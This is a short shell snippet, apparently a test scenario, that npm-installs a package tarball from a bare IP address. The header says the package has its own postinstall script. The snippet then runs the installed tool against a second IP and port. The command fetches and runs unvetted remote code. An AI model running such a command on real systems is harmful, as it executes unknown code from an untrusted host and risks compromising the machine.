# npm install of a package with a postinstall script of its own and a command that asks a service
#http 203.0.113.77:8017
#pool 203.0.113.78:8443:http
mkdir -p /srv/app && cd /srv/app && echo '{"name":"app"}' > package.json && npm install --no-audit --no-fund --no-update-notifier http://203.0.113.77:8017/state-of.tgz && node_modules/.bin/state-of 203.0.113.78 8443
